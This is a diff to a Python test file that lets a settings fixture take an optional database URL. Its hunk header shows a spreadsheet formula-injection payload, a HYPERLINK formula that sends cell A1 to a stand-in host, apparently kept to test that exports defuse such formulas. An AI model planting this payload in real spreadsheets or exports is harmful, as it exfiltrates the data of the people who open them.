@@ -37,9 +37,10 @@ HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'
 
 
 @pytest.fixture
-def settings(tmp_path: Path) -> Settings:
+def settings(tmp_path: Path, database_url: str | None) -> Settings:
     """Two bootstrap organisers: the usual one and one who organises no neighbourhood."""
-    return make_settings(tmp_path, ORGANISER_IDS=f"{ORGANISER.id},{OVERSEER.id}")
+    backend = {"DATABASE_URL": database_url} if database_url else {}
+    return make_settings(tmp_path, ORGANISER_IDS=f"{ORGANISER.id},{OVERSEER.id}", **backend)
 
 
 def parse(content: bytes) -> list[dict[str, str]]:
